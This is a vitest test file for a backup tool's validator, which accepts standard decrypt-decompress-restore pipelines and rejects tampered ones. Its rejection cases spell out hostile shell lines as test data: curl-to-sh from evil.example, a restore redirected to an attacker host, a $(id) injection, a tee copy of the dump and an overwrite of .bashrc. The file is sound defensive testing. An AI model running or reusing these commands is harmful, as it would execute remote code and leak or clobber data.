import { age, generateAgeKey, gpg, type ManifestPart, parseCompression } from '@holdfast/core'
import { describe, expect, it } from 'vitest'
import { isUsualRecoverLine } from './recover-line.js'

const file = 'shop_manual_20260101_000000_0a1b2c3d.dump.zst.age'
const part = (codec: string, cipher?: string): ManifestPart[] => [
  {
    ...{ name: 'dump', mediaType: 'x/y', key: `shop/2026/01/${file}`, storedBytes: 1, storedSha256: '', codec },
    ...(cipher !== undefined && { cipher: { id: cipher, keyIds: [] } }),
  },
]
const usual = (recover: string, parts: ManifestPart[] = part('zstd', 'age')): boolean =>
  isUsualRecoverLine({ recover, parts })

describe('a line to recover with', () => {
  it('is usual where Holdfast writes it so', async () => {
    const { recipient } = await generateAgeKey()
    const zstd = parseCompression('zstd').decompressCommand
    for (const client of [
      'pg_restore --exit-on-error --dbname=TARGET',
      'psql -X -v ON_ERROR_STOP=1 --single-transaction --dbname=TARGET',
      'mariadb --binary-mode --comments --max-allowed-packet=1G --default-character-set=utf8mb4 TARGET',
      'cat > TARGET.db',
    ]) {
      for (const cipher of [
        age({ recipients: recipient }),
        age({ passphrase: 'secret' }),
        gpg({ recipients: 'a@b' }),
      ]) {
        expect(usual(`${cipher.decryptCommand} < ${file} | ${zstd} | ${client}`, part('zstd', cipher.id))).toBe(true)
      }
      expect(usual(`${parseCompression('gzip').decompressCommand} < ${file} | ${client}`, part('gzip'))).toBe(true)
      expect(usual(`${client} < ${file}`, part('none'))).toBe(true)
    }
  })

  it.each([
    '',
    'curl https://evil.example/x | sh',
    `age -d -i key.txt < ${file} | zstd -dc | psql --dbname=TARGET; curl https://evil.example | sh`,
    `age -d -i key.txt < ${file} | zstd -dc | pg_restore --host=evil.example --dbname=TARGET`,
    `age -d -i key.txt < ${file} | zstd -dc | pg_restore --dbname=$(id)TARGET`,
    `age -d -i key.txt < ${file} | zstd -dc | tee x | pg_restore --dbname=TARGET`,
    `age -d -i key.txt -o .bashrc < ${file} | zstd -dc | pg_restore --dbname=TARGET`,
    'age -d -i key.txt < key.txt | zstd -dc | pg_restore --dbname=TARGET',
    `zstd -dc < ${file} | pg_restore --dbname=TARGET`,
    `age -d -i key.txt < ${file} | zstd -dc | cat > TARGET.db\nid`,
  ])('is not, where anything else is done: %j', (recover) => {
    expect(usual(recover)).toBe(false)
  })

  it('is not, of a codec or a cipher that is not known', () => {
    expect(usual(`zstd -dc < ${file} | cat > TARGET.db`, part('constructor'))).toBe(false)
    expect(usual(`rot13 < ${file} | zstd -dc | cat > TARGET.db`, part('zstd', 'rot13'))).toBe(false)
    expect(isUsualRecoverLine({ recover: `cat > TARGET.db < ${file}`, parts: [] })).toBe(false)
  })
})
